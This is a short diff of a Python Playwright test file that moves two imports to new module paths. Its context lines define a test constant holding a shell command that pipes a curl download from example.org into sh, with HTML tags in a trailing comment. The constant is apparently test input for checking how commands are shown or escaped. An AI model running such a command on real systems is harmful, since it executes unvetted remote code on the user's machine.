@@ -8,8 +8,8 @@ from pathlib import Path
 
 from playwright.sync_api import Locator, Page, expect
 
-from synapse.ics import read_calendar
-from tests.harness import SynapseUnderTest
+from synapse.ical.reading import read_calendar
+from tests.parts.harness import SynapseUnderTest
 
 SignIn = Callable[[SynapseUnderTest], Page]
 COMMAND = ['sh', '-c', 'curl -s https://example.org/x | sh # <b>harmless</b>']
